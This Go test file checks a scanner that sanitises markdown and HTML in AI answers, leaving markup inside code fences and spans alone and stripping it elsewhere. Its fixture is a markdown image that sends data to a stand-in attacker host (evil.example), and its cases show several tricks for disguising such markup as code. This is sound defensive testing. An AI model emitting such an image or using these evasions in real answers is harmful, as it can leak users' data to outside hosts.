package detect

import (
	"strings"
	"testing"
)

// TestMarkupSkipsCode: markup in fenced code blocks and inline code spans
// is shown as text by a renderer and is left alone; markup outside code,
// and markup an answer only pretends is code, is still sanitised.
func TestMarkupSkipsCode(t *testing.T) {
	t.Parallel()
	sc := markupScanner(t, "docs.example.com")
	img := `<img src="https://example.com/cat.png">`
	exfil := "![ok](https://evil.example/p.png?d=x)"
	cases := []struct{ name, in, want string }{
		// Ordinary coding answers: untouched.
		{"html fence", "To embed an image:\n```html\n" + img + "\n<a href=\"https://example.com\">x</a>\n<script src=\"app.js\"></script>\n```\nDone.", ""},
		{"tilde fence", "~~~~\n" + img + "\n~~~~\n", ""},
		{"longer closer", "```\n" + img + "\n`````\n", ""},
		{"closer indented 3", "```\n" + img + "\n   ```\n", ""},
		{"inline link in code", "Write `[x](https://example.com/a)` for a link.", ""},
		{"inline html in code", "Use `" + img + "` or ``<a href=\"https://x.example\">` ``.", ""},
		{"unterminated fence runs to the end", "Start:\n```html\n" + img + "\n" + exfil, ""},
		{"span at the very end", "use `" + img + "`", ""},
		{"code span in a list", "- `" + img + "`\n- b", ""},
		{"fence after a list", "1. step\n```\n" + img + "\n```", ""},
		// Outside code: sanitised.
		{"image after fence", "```\nx\n```\n" + exfil, "```\nx\n```\nok"},
		{"image between spans", "`a` " + exfil + " `b`", "`a` ok `b`"},
		// Escapes.
		{"closed early", "```\n```\n" + exfil + "\n```", "```\n```\nok\n```"},
		{"indented 4 is no closer", "```\n    ```\n" + exfil, ""},
		{"closer with text is no closer", "```\n``` x\n" + exfil, ""},
		{"shorter closer", "````\n```\n" + exfil + "\n````", ""},
		{"other char closer", "```\n~~~\n" + exfil + "\n```", ""},
		{"indented opener poisons", "  ```\nx\n```\n" + exfil + "\n```", "  ```\nx\n```\nok\n```"},
		{"list fence poisons", "- a\n  ```\n  x\n```\n" + exfil + "\n```", "- a\n  ```\n  x\n```\nok\n```"},
		{"html block poisons", "<div>\n```\n" + exfil + "\n```\n</div>", "<div>\n```\nok\n```\n</div>"},
		{"comment block poisons", "<!--\n\n```\n-->\n" + exfil + "\n```", "<!--\n\n```\n-->\nok\n```"},
		{"backtick info string", "```a`b\n" + exfil + "\n```", "```a`b\nok\n```"},
		{"span across lines", "`` start\nx ` `` " + exfil + " `", "`` start\nx ` `` ok `"},
		{"backtick in a tag", "<a title='`'>t</a> " + exfil + " `", "<a title='`'>t</a> ok `"},
		{"backtick in a destination", "[x](/a`b) " + exfil + " `", "[x](/a`b) ok `"},
		{"escaped backtick", "\\` " + exfil + " `", "\\` ok `"},
		{"table cell", "| ` | " + exfil + " | ` |", "| ` | ok | ` |"},
		{"unequal runs", "`` " + exfil + " `", "`` ok `"},
		{"blank line ends a span", "`\n\n" + exfil + "`", "`\n\nok`"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			want := c.want
			if want == "" {
				want = c.in
			}
			res := sc.Scan(c.in)
			if got := neutralise(c.in, res.Findings); got != want {
				t.Fatalf("sanitised\n%q\nto\n%q\nwant\n%q", c.in, got, want)
			}
		})
	}
}

// TestCodeStateAdvanceMatchesRanges: the state a stream carries (Advance
// over any prefix) gives, for the rest, the same code regions as one pass.
func TestCodeStateAdvanceMatchesRanges(t *testing.T) {
	t.Parallel()
	texts := []string{
		"a `x` b\n```html\n<img src=x>\n```\n`y` ~~~\n~~~\nz\n",
		"`` a ` b ``\n\n| `c` |\n  ```\n`d`",
		"x\n````\n```\n````\n`e`",
	}
	for _, text := range texts {
		whole := codeRanges(text, CodeState{}, true)
		for cut := 0; cut <= len(text); cut++ {
			var st CodeState
			st.Advance([]byte(text[:cut]))
			if st.InSpan() {
				continue // a stream does not cut here
			}
			var got []codeSpan
			for _, r := range whole {
				if r.e > cut {
					got = append(got, codeSpan{max(r.s, cut) - cut, r.e - cut, r.inline})
				}
			}
			part := codeRanges(text[cut:], st, true)
			if len(part) != len(got) {
				t.Fatalf("%q cut at %d: ranges %v, want %v", text, cut, part, got)
			}
			for i := range part {
				if part[i] != got[i] {
					t.Fatalf("%q cut at %d: ranges %v, want %v", text, cut, part, got)
				}
			}
		}
	}
	if !strings.Contains(texts[0], "```") {
		t.Fatal("bad fixture")
	}
}
